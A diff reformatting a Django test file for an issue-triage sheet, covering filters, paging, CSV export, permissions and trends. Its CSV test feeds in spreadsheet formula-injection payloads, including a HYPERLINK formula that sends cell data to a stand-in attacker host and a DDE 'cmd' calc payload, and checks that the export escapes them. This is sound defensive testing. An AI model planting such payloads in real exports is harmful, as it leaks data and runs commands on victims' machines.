@@ -1,4 +1,5 @@
 """The issue sheet: filters, keyset paging, CSV export with hostile cells, pages and their permissions."""
+
 import csv
 import datetime as dt
 import io
@@ -35,15 +36,26 @@ def sheet(reviewer, engineer, lead, make_user):
         file_row(reviewer, what="Talks over the candidate", severity="major", audio_only=True),
         file_row(reviewer, what="Asked two questions", severity="minor"),
         file_row(other_reporter, what="Leaked the rubric", severity="critical"),
-        file_row(other_reporter, call_with_turns(agent_version=new_version), what="Long silence", severity="major",
-                 audio_only=True),
+        file_row(
+            other_reporter,
+            call_with_turns(agent_version=new_version),
+            what="Long silence",
+            severity="major",
+            audio_only=True,
+        ),
         file_row(reviewer, what="Greeted twice", severity="minor"),
         file_row(reviewer, what="talks over again", severity="critical"),
     ]
     triage.issue_row_assign(row=rows[0], actor=lead, assignee=engineer)
     triage.issue_row_request_signal(row=rows[0], actor=engineer, request="talk-over detector")
-    triage.issue_row_write_rule(row=rows[2], actor=engineer, rule_id="boundaries.no-rubric", group="boundaries",
-                                text="Never reveal the rubric.", severity="critical")
+    triage.issue_row_write_rule(
+        row=rows[2],
+        actor=engineer,
+        rule_id="boundaries.no-rubric",
+        group="boundaries",
+        text="Never reveal the rubric.",
+        severity="critical",
+    )
     triage.issue_row_close_wont_fix(row=rows[4], actor=engineer, reason="fine")
     IssueRow.objects.filter(pk=rows[5].pk).update(created_at=timezone.now() - dt.timedelta(days=10))
     return rows
@@ -71,10 +83,17 @@ def test_each_filter_narrows_the_sheet(sheet):
     assert numbers(f"since={old}&until={old}") == [n[5]]
 
 
-@pytest.mark.parametrize("query, field", [
-    ("status=open", "status"), ("severity=huge", "severity"), ("since=yesterday", "since"),
-    ("audio_only=maybe", "audio_only"), ("sort=colour", "sort"), ("since=2026-02-02&until=2026-01-01", "until"),
-])
+@pytest.mark.parametrize(
+    "query, field",
+    [
+        ("status=open", "status"),
+        ("severity=huge", "severity"),
+        ("since=yesterday", "since"),
+        ("audio_only=maybe", "audio_only"),
+        ("sort=colour", "sort"),
+        ("since=2026-02-02&until=2026-01-01", "until"),
+    ],
+)
 def test_bad_filters_name_the_parameter(query, field):
     with pytest.raises(sel.IssueRowFilterError) as exc:
         parse(query)
@@ -116,8 +135,16 @@ def test_a_forged_cursor_is_a_clear_error():
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
-    "+1", "-1", "@SUM(A1:A9)", "\tTAB=1+1", "\rCR=1", "line one\nline two", 'He said "hi", then left',
-    "ünïcødé 日本語 🙂", "plain text", "=1+1\n=2+2",
+    "+1",
+    "-1",
+    "@SUM(A1:A9)",
+    "\tTAB=1+1",
+    "\rCR=1",
+    "line one\nline two",
+    'He said "hi", then left',
+    "ünïcødé 日本語 🙂",
+    "plain text",
+    "=1+1\n=2+2",
 ]
 
 
@@ -131,7 +158,9 @@ def test_csv_escapes_hostile_cells_and_round_trips_the_rest(client, make_user, e
     hostile_reporter = make_user("reviewer", username="@evil")
     t = call_with_turns()
     rows = [file_row(hostile_reporter, t, what=f"placeholder {i}") for i in range(len(HOSTILE))]
-    for row, what in zip(rows, HOSTILE):  # raw, as an older import could have stored them (filing strips)
+    for row, what in zip(
+        rows, HOSTILE
+    ):  # raw, as an older import could have stored them (filing strips)
         IssueRow.objects.filter(pk=row.pk).update(what=what)
     triage.issue_row_request_signal(row=rows[0], actor=engineer, request="-2+3 detector")
     triage.issue_row_close_wont_fix(row=rows[1], actor=engineer, reason="=cmd|' /C calc'!A0")
@@ -170,7 +199,9 @@ def test_csv_cell_escaping_rules():
 
 def test_csv_export_follows_the_filters(client, sheet, engineer):
     client.force_login(engineer)
-    body = read_csv(b"".join(client.get(reverse("issue-sheet-export") + "?severity=critical").streaming_content))[1:]
+    body = read_csv(
+        b"".join(client.get(reverse("issue-sheet-export") + "?severity=critical").streaming_content)
+    )[1:]
     assert sorted(int(r[0]) for r in body) == [sheet[2].number, sheet[5].number]
 
 
@@ -181,10 +212,17 @@ def test_reviewer_gets_403_on_every_triage_page_and_post(client, reviewer, sheet
         assert client.get(reverse(name)).status_code == 403
     assert client.get(reverse("issue-row-detail", args=[n])).status_code == 403
     posts = {
-        "issue-row-assign": {"assignee": "priya"}, "issue-row-status": {"status": "triaged"},
-        "issue-row-duplicate": {"duplicate_of": sheet[0].number}, "issue-row-wont-fix": {"reason": "x"},
-        "issue-row-comment": {"text": "x"}, "issue-row-write-rule": {"rule_id": "a.b", "group": "asking",
-                                                                      "text": "x", "severity": "minor"},
+        "issue-row-assign": {"assignee": "priya"},
+        "issue-row-status": {"status": "triaged"},
+        "issue-row-duplicate": {"duplicate_of": sheet[0].number},
+        "issue-row-wont-fix": {"reason": "x"},
+        "issue-row-comment": {"text": "x"},
+        "issue-row-write-rule": {
+            "rule_id": "a.b",
+            "group": "asking",
+            "text": "x",
+            "severity": "minor",
+        },
         "issue-row-add-signal": {"mode": "request", "request": "x"},
         "issue-row-fix-rule": {"rule": "boundaries.no-rubric", "text": "y"},
     }
@@ -204,13 +242,17 @@ def test_sheet_page_renders_rows_links_and_htmx_fragment(client, engineer, sheet
     t = sheet[2].transcript
     assert f'href="/calls/{t.external_id}/?turn=2#turn-2"' in html
     assert 'href="/issues/export.csv?severity=critical"' in html
-    fragment = client.get(reverse("issue-sheet") + "?severity=minor", headers={"HX-Request": "true"})
+    fragment = client.get(
+        reverse("issue-sheet") + "?severity=minor", headers={"HX-Request": "true"}
+    )
     body = fragment.content.decode()
     assert body.lstrip().startswith('<div id="sheet-table"') and "<html" not in body
     assert f'id="row-{sheet[1].number}"' in body
     assert "HX-Request" in fragment["Vary"]
-    restore = client.get(reverse("issue-sheet") + "?severity=minor",
-                         headers={"HX-Request": "true", "HX-History-Restore-Request": "true"})
+    restore = client.get(
+        reverse("issue-sheet") + "?severity=minor",
+        headers={"HX-Request": "true", "HX-History-Restore-Request": "true"},
+    )
     assert "<html" in restore.content.decode()  # a history miss gets the whole page back
     bad = client.get(reverse("issue-sheet") + "?since=soon")
     assert bad.status_code == 400 and "since" in bad.content.decode()
@@ -232,35 +274,73 @@ def test_detail_page_forms_take_each_way_and_show_history(client, engineer, revi
     detail = client.get(reverse("issue-row-detail", args=[rows[0].number])).content.decode()
     assert "Write a rule" in detail and "Add a signal" in detail and "Fix the rule" in detail
     form = client.get(reverse("issue-row-write-rule", args=[rows[0].number])).content.decode()
-    assert 'value="asking.asked-two-questions-at-once"' in form and "Asked two questions at once</textarea>" in form
+    assert (
+        'value="asking.asked-two-questions-at-once"' in form
+        and "Asked two questions at once</textarea>" in form
+    )
 
-    r = client.post(reverse("issue-row-write-rule", args=[rows[0].number]),
-                    {"rule_id": "asking.one-at-a-time", "group": "asking", "text": "One at a time.",
-                     "severity": "major"})
+    r = client.post(
+        reverse("issue-row-write-rule", args=[rows[0].number]),
+        {
+            "rule_id": "asking.one-at-a-time",
+            "group": "asking",
+            "text": "One at a time.",
+            "severity": "major",
+        },
+    )
     assert r.status_code == 302
-    r = client.post(reverse("issue-row-add-signal", args=[rows[1].number]),
-                    {"mode": "create", "detector": "silence_before_agent", "param_silence_before_agent_max_ms": "2500",
-                     "rule_id": "signals.silence", "group": "signals", "text": "Answer within 2.5 s",
-                     "severity": "minor"})
+    r = client.post(
+        reverse("issue-row-add-signal", args=[rows[1].number]),
+        {
+            "mode": "create",
+            "detector": "silence_before_agent",
+            "param_silence_before_agent_max_ms": "2500",
+            "rule_id": "signals.silence",
+            "group": "signals",
+            "text": "Answer within 2.5 s",
+            "severity": "minor",
+        },
+    )
     assert r.status_code == 302
-    fix_form = client.get(reverse("issue-row-fix-rule", args=[rows[2].number]) + f"?rule={rule.rule_id}")
+    fix_form = client.get(
+        reverse("issue-row-fix-rule", args=[rows[2].number]) + f"?rule={rule.rule_id}"
+    )
     assert "Ask one question per turn.</textarea>" in fix_form.content.decode()
-    r = client.post(reverse("issue-row-fix-rule", args=[rows[2].number]), {"rule": rule.rule_id, "text": "New."})
+    r = client.post(
+        reverse("issue-row-fix-rule", args=[rows[2].number]), {"rule": rule.rule_id, "text": "New."}
+    )
     assert r.status_code == 302
-    bad = client.post(reverse("issue-row-add-signal", args=[rows[1].number]),
-                      {"mode": "create", "detector": "talk_over", "param_talk_over_max_overlap_ms": "x"})
+    bad = client.post(
+        reverse("issue-row-add-signal", args=[rows[1].number]),
+        {"mode": "create", "detector": "talk_over", "param_talk_over_max_overlap_ms": "x"},
+    )
     assert bad.status_code == 400 and "detector.max_overlap_ms" in bad.content.decode()
 
-    outcomes = dict(IssueRow.objects.filter(pk__in=[r.pk for r in rows]).values_list("number", "outcome"))
-    assert outcomes == {rows[0].number: "new_rule", rows[1].number: "new_signal", rows[2].number: "rule_fix"}
+    outcomes = dict(
+        IssueRow.objects.filter(pk__in=[r.pk for r in rows]).values_list("number", "outcome")
+    )
+    assert outcomes == {
+        rows[0].number: "new_rule",
+        rows[1].number: "new_signal",
+        rows[2].number: "rule_fix",
+    }
     page = client.get(reverse("issue-row-detail", args=[rows[2].number])).content.decode()
-    assert "fixed the rule" in page and "v2 (candidate)" in page and "v1 stays in the gate until then" in page
+    assert (
+        "fixed the rule" in page
+        and "v2 (candidate)" in page
+        and "v1 stays in the gate until then" in page
+    )
 
 
 def test_trends_count_rows_by_outcome_and_findings(reviewer, engineer, sheet):
     trends = sel.issue_trends(days=14)
     today = timezone.localdate()
-    assert trends.rows_by_outcome[today] == {"new_signal": 1, "untriaged": 2, "new_rule": 1, "wont_fix": 1}
+    assert trends.rows_by_outcome[today] == {
+        "new_signal": 1,
+        "untriaged": 2,
+        "new_rule": 1,
+        "wont_fix": 1,
+    }
     assert trends.found[today]["new_failures"] == 5
     assert len(trends.days) == 14 and trends.days[-1] == today
 
@@ -273,7 +353,9 @@ def test_trends_page_draws_svg_bars(client, engineer, sheet):
 
 
 @pytest.mark.postgres
-def test_sheet_query_count_is_constant_at_100000_rows(client, engineer, reviewer, django_assert_max_num_queries):
+def test_sheet_query_count_is_constant_at_100000_rows(
+    client, engineer, reviewer, django_assert_max_num_queries
+):
     t = TranscriptFactory()
     small = [file_row(reviewer, call_with_turns(), what=f"r{i}") for i in range(3)]
     client.force_login(engineer)
@@ -283,8 +365,17 @@ def test_sheet_query_count_is_constant_at_100000_rows(client, engineer, reviewer
     start = small[-1].number + 1
     severities = ["minor", "major", "critical"]
     IssueRow.objects.bulk_create(
-        (IssueRow(number=start + i, transcript=t, turn=None, what=f"bulk row {i}", severity=severities[i % 3],
-                  reporter=reviewer) for i in range(100_000)),
+        (
+            IssueRow(
+                number=start + i,
+                transcript=t,
+                turn=None,
+                what=f"bulk row {i}",
+                severity=severities[i % 3],
+                reporter=reviewer,
+            )
+            for i in range(100_000)
+        ),
         batch_size=10_000,
     )
     assert IssueRow.objects.count() == 100_003
@@ -294,7 +385,9 @@ def test_sheet_query_count_is_constant_at_100000_rows(client, engineer, reviewer
     assert "100,003 rows" in response.content.decode()
     page = sel.issue_sheet_page(filters=parse("status=new&sort=severity"))
     deep = client.get(url + f"&after={page.next_cursor}")
-    assert deep.status_code == 200 and len(big_ctx.captured_queries) == len(small_ctx.captured_queries)
+    assert deep.status_code == 200 and len(big_ctx.captured_queries) == len(
+        small_ctx.captured_queries
+    )
 
 
 def test_trends_split_reviewed_items_by_reason_and_count_judge_errors(reviewer):
@@ -304,10 +397,17 @@ def test_trends_split_reviewed_items_by_reason_and_count_judge_errors(reviewer):
     today = timezone.localdate()
     sample = DailySampleFactory(day=today)
     now = timezone.now()
-    items = [SampleItemFactory(sample=sample, reason=r) for r in ("uniform", "uniform", "judge_check", "judge_check")]
+    items = [
+        SampleItemFactory(sample=sample, reason=r)
+        for r in ("uniform", "uniform", "judge_check", "judge_check")
+    ]
     for item in items[:3]:  # the fourth is claimed but not finished: not reviewed
-        Assignment.objects.create(item=item, reviewer=reviewer, claimed_at=now, lease_expires_at=now, finished_at=now)
-    Assignment.objects.create(item=items[3], reviewer=reviewer, claimed_at=now, lease_expires_at=now)
+        Assignment.objects.create(
+            item=item, reviewer=reviewer, claimed_at=now, lease_expires_at=now, finished_at=now
+        )
+    Assignment.objects.create(
+        item=items[3], reviewer=reviewer, claimed_at=now, lease_expires_at=now
+    )
     Mark.objects.create(verdict=VerdictFactory(), reviewer=reviewer, correct=False)
     Mark.objects.create(verdict=VerdictFactory(), reviewer=reviewer, correct=True)
     file_row(reviewer)
